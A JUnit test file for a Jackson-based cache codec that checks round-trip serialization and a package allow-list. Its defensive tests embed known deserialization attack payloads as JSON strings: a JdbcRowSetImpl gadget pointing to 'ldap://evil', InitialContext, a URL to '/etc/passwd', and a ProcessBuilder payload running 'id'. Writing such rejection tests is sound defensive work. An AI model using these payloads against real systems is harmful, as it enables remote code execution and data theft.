package io.emdb.spring.cache;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.annotation.JsonInclude;
import com.fasterxml.jackson.annotation.JsonInclude.Include;
import com.fasterxml.jackson.annotation.JsonSubTypes;
import com.fasterxml.jackson.annotation.JsonTypeInfo;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URL;
import java.net.URLClassLoader;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.Date;
import java.util.EnumMap;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.LinkedList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.DeserializationFeature;
import tools.jackson.databind.PropertyNamingStrategies;
import tools.jackson.databind.SerializationFeature;
import tools.jackson.databind.cfg.DateTimeFeature;
import tools.jackson.databind.json.JsonMapper;

@SuppressWarnings({"EqualsGetClass", "JdkObsolete", "JavaUtilDate"}) // all sorts of values
class JacksonCacheCodecTest {

  private static final AtomicInteger GADGETS_MADE = new AtomicInteger();

  private final JacksonCacheCodec codec = codec(new JsonMapper(), "io.emdb.spring.cache");

  record City(String name, int people) {}

  record Country(String name, List<City> cities, Map<String, City> byName) {}

  record ById(Map<Long, City> ids, Map<UUID, List<City>> uuids, Map<Color, Integer> colors) {}

  record Holder(Object anything) {}

  record Page<T>(List<T> items, Optional<T> first) {}

  sealed interface Shape permits Circle, Square {}

  record Circle(double radius) implements Shape {}

  record Square(double side) implements Shape {}

  record Drawing(Shape main, List<Shape> others) {}

  enum Color {
    RED,
    GREEN {}
  }

  record Dates(
      Instant at, LocalDate on, ZonedDateTime zoned, OffsetDateTime offset, Duration took) {}

  static class Animal {
    public String name;

    @Override
    public boolean equals(Object other) {
      return other instanceof Animal that
          && getClass() == other.getClass()
          && Objects.equals(name, that.name);
    }

    @Override
    public int hashCode() {
      return Objects.hashCode(name);
    }
  }

  static class Dog extends Animal {
    public int age;
  }

  record Owner(Animal pet) {}

  @JsonTypeInfo(use = JsonTypeInfo.Id.NAME)
  @JsonSubTypes({@JsonSubTypes.Type(value = Card.class, name = "card")})
  interface Payment {}

  record Card(String number) implements Payment {}

  record Invoice(Payment payment) {}

  @JsonInclude(JsonInclude.Include.NON_NULL)
  record Sparse(String name, Integer people) {}

  /** Does something when it is made, as the classes of real attacks do. */
  public static final class Gadget {
    public Gadget() {
      GADGETS_MADE.incrementAndGet();
    }

    public int getPort() {
      return 1;
    }
  }

  static final class WriteOnly {
    private final String name;

    private WriteOnly(String first, String second) {
      this.name = first + second;
    }

    public String getName() {
      return name;
    }
  }

  static Stream<Object> values() {
    City ulm = new City("Ulm", 126_000);
    Dog dog = new Dog();
    dog.name = "Rex";
    dog.age = 3;
    Owner owner = new Owner(dog);
    ZonedDateTime paris =
        ZonedDateTime.of(2026, 7, 1, 8, 0, 0, 123_456_789, ZoneId.of("Europe/Paris"));
    return Stream.of(
        "text",
        "",
        1,
        1L,
        (short) 1,
        (byte) 1,
        'c',
        true,
        1.5,
        1.5f,
        Long.MAX_VALUE,
        Double.NaN,
        new BigDecimal("1.00"),
        new BigDecimal("1E+3"),
        BigInteger.TWO.pow(100),
        new UUID(1, 2),
        Locale.GERMANY,
        new Date(1234567),
        new byte[] {1, 2},
        new int[] {1, 2},
        ulm,
        new City(null, 0),
        new Country("D", List.of(ulm), Map.of("u", ulm)),
        new Holder(ulm),
        new Holder(1L),
        new Holder(List.of(ulm, 1L, "x", Color.RED)),
        new Holder(null),
        new Page<>(List.of(ulm), Optional.of(ulm)),
        new Page<>(List.of(), Optional.empty()),
        new Circle(1),
        new Drawing(new Circle(1), List.of(new Square(2), new Circle(3))),
        Color.RED,
        Color.GREEN,
        new Holder(Color.GREEN),
        dog,
        owner,
        List.of(dog, new Animal()),
        new Card("1"),
        new Invoice(new Card("1")),
        List.of(new Card("2")),
        new Sparse("a", null),
        new Sparse(null, 1),
        new Dates(
            Instant.parse("2026-01-02T03:04:05.123456789Z"),
            LocalDate.EPOCH,
            paris,
            paris.toOffsetDateTime(),
            Duration.ofNanos(5)),
        paris,
        Instant.MAX,
        LocalDate.MIN,
        List.of(),
        List.of(1),
        List.of(ulm, ulm, ulm),
        new ArrayList<>(Arrays.asList("a", null, 1L)),
        Stream.of(1, 2, 3).toList(),
        Arrays.asList(ulm, null),
        new LinkedList<>(List.of(ulm)),
        Collections.emptyList(),
        Collections.singletonList(ulm),
        Collections.unmodifiableList(new ArrayList<>(List.of(ulm))),
        Set.of(),
        Set.of(ulm),
        Set.of(1, 2, 3),
        new TreeSet<>(Set.of("b", "a")),
        new LinkedHashSet<>(List.of(3L, 1L)),
        EnumSet.of(Color.RED, Color.GREEN),
        Collections.unmodifiableSet(new LinkedHashSet<>(List.of(ulm))),
        Map.of(),
        Map.of("a", ulm),
        Map.of("a", 1, "b", 2L),
        new HashMap<>(Map.of("k", List.of(ulm))),
        Map.of(1L, ulm),
        Map.of(1, "int", 2L, "long", "1", "text", ulm, "city", new UUID(1, 2), "uuid"),
        new HashMap<>(Map.of("\u0001", 1, "", 2, "\u0001x", 3)),
        new TreeMap<>(Map.of(3L, ulm, 1L, ulm)),
        new Holder(Map.of(LocalDate.EPOCH, Map.of(2, ulm))),
        new ById(Map.of(1L, ulm), Map.of(new UUID(3, 4), List.of(ulm)), Map.of(Color.RED, 1)),
        new TreeMap<>(Map.of("a", 1)),
        new LinkedHashMap<>(Map.of("x", Map.of("y", ulm))),
        new EnumMap<>(Map.of(Color.RED, ulm)),
        Map.of("at", Instant.EPOCH),
        Collections.unmodifiableMap(new HashMap<>(Map.of("a", ulm))),
        Collections.emptyMap(),
        new City[] {ulm, null},
        new Object[] {ulm, 1L, "x"},
        new Animal[] {dog},
        new String[] {"a"},
        List.of(List.of(List.of(ulm))),
        Optional.of(ulm),
        Optional.of(List.of(ulm)),
        Optional.empty(),
        Optional.of("O"));
  }

  @ParameterizedTest
  @MethodSource("values")
  void decode_ofEncoded_isEqual(Object value) {
    Object decoded = codec.decode(codec.encode(value));
    assertThat(decoded).isEqualTo(value);
  }

  @Test
  void decode_ofEncoded_keepsTheTypeOfCollectionsAndNumbers() {
    List<Object> values =
        List.of(
            1,
            1L,
            (short) 1,
            1.5f,
            new ArrayList<>(List.of(1)),
            new LinkedList<>(List.of(1)),
            new TreeMap<>(Map.of("a", 1)),
            new LinkedHashMap<>(Map.of("a", 1)),
            new TreeSet<>(Set.of("a")),
            EnumSet.of(Color.RED),
            new City[] {new City("Ulm", 1)});
    for (Object value : values) {
      assertThat(codec.decode(codec.encode(value))).hasSameClassAs(value);
    }
  }

  @Test
  void encode_typeOutsideTheAllowList_isRefusedAtAnyDepth() {
    JacksonCacheCodec strict = codec(new JsonMapper(), "com.acme");
    City city = new City("Ulm", 1);
    for (Object value :
        List.of(city, List.of(city), Map.of("a", city), new City[] {city}, new Gadget())) {
      assertThatThrownBy(() -> strict.encode(value))
          .hasStackTraceContaining(TypeNotAllowedException.class.getName())
          .hasStackTraceContaining("emdb.cache.allowed-packages");
    }
  }

  @Test
  void decode_typeOutsideTheAllowList_makesNoInstance() {
    JacksonCacheCodec strict = codec(new JsonMapper(), "com.acme");
    String gadget = Gadget.class.getName();
    for (String json :
        List.of(
            "[\"" + gadget + "\",{\"port\":1}]",
            "[\"java.util.ArrayList\",[[\"" + gadget + "\",{}]]]",
            "[\"java.util.LinkedHashMap\",{\"a\":[\"" + gadget + "\",{}]}]",
            "[\"[L" + gadget + ";\",[{}]]",
            "[\"java.util.ArrayList<" + gadget + ">\",[{}]]",
            "[\"javax.naming.InitialContext\",{}]",
            "[\"java.util.HashMap\",{\"\\u0001[\\\"" + gadget + "\\\",{}]\":1}]",
            "[\"java.net.URL\",\"file:/etc/passwd\"]",
            "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil\"}]")) {
      assertThatException().as(json).isThrownBy(() -> strict.decode(json.getBytes(UTF_8)));
    }
    assertThat(GADGETS_MADE).hasValue(0);
    assertThat(codec.decode(("[\"" + gadget + "\",{}]").getBytes(UTF_8)))
        .isInstanceOf(Gadget.class);
    assertThat(GADGETS_MADE).as("the gadget does work where it is allowed").hasValue(1);
  }

  @Test
  void decode_annotatedWithClassNames_obeysTheAllowListToo() {
    String json =
        "[\""
            + ByClass.class.getName()
            + "\",{\"box\":{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}}]";
    assertThatException().isThrownBy(() -> codec.decode(json.getBytes(UTF_8)));
  }

  @Test
  void decode_strangeBytes_isRefused() {
    for (String json : List.of("", "{", "[]", "[1]", "1 2", "[\"java.lang.Long\",\"x\"]", "\0")) {
      assertThatException().as(json).isThrownBy(() -> codec.decode(json.getBytes(UTF_8)));
    }
  }

  @Test
  void decode_unknownClassOfAnAllowedPackage_isRefused() {
    assertThatException()
        .isThrownBy(() -> codec.decode("[\"io.emdb.spring.cache.Gone\",{}]".getBytes(UTF_8)));
  }

  @Test
  void encode_classThatCannotBeReadBack_isRefusedAtOnce() {
    assertThatException().isThrownBy(() -> codec.encode(new WriteOnly("a", "b")));
    assertThatException().isThrownBy(() -> codec.encode(new ByCity(Map.of(new City("a", 1), 1))));
  }

  @Test
  void mapperOfTheApplication_keepsItsNamingAndLosesNothing() {
    JsonMapper web =
        JsonMapper.builder()
            .propertyNamingStrategy(PropertyNamingStrategies.SNAKE_CASE)
            .changeDefaultPropertyInclusion(
                v -> JsonInclude.Value.construct(Include.NON_DEFAULT, Include.NON_DEFAULT))
            .enable(DateTimeFeature.WRITE_DATES_AS_TIMESTAMPS)
            .enable(DateTimeFeature.WRITE_DATES_WITH_CONTEXT_TIME_ZONE)
            .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .enable(SerializationFeature.WRAP_ROOT_VALUE)
            .enable(SerializationFeature.INDENT_OUTPUT)
            .enable(SerializationFeature.WRITE_SINGLE_ELEM_ARRAYS_UNWRAPPED)
            .build();
    JacksonCacheCodec own = codec(web, "io.emdb.spring.cache");
    values().forEach(value -> assertThat(own.decode(own.encode(value))).isEqualTo(value));
    assertThat(new String(own.encode(new TwoWords("a")), UTF_8)).contains("\"two_words\"");
    assertThat(web.writeValueAsString(new City("", 0))).as("the original").doesNotContain("[");
  }

  @Test
  void decode_usesTheGivenClassLoader() throws Exception {
    URL classes = City.class.getProtectionDomain().getCodeSource().getLocation();
    try (URLClassLoader restarted = new OwnClassesFirst(classes)) {
      JacksonCacheCodec afterRestart =
          new JacksonCacheCodec(
              new JsonMapper(),
              AllowedTypes.ofPackages(List.of("io.emdb.spring.cache")),
              restarted);
      Object decoded = afterRestart.decode(codec.encode(new City("Ulm", 1)));
      assertThat(decoded.getClass().getName()).isEqualTo(City.class.getName());
      assertThat(decoded.getClass().getClassLoader()).isSameAs(restarted);
    }
  }

  record ByCity(Map<City, Integer> people) {}

  record TwoWords(String twoWords) {}

  record ByClass(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Object box) {}

  /** Loads the tests' own classes anew, as devtools does after a change. */
  private static final class OwnClassesFirst extends URLClassLoader {

    OwnClassesFirst(URL classes) {
      super(new URL[] {classes}, JacksonCacheCodecTest.class.getClassLoader());
    }

    @Override
    protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
      return name.startsWith(JacksonCacheCodecTest.class.getName())
          ? findClass(name)
          : super.loadClass(name, resolve);
    }
  }

  private JacksonCacheCodec codec(JsonMapper mapper, String allowedPackage) {
    return new JacksonCacheCodec(
        mapper, AllowedTypes.ofPackages(List.of(allowedPackage)), getClass().getClassLoader());
  }
}
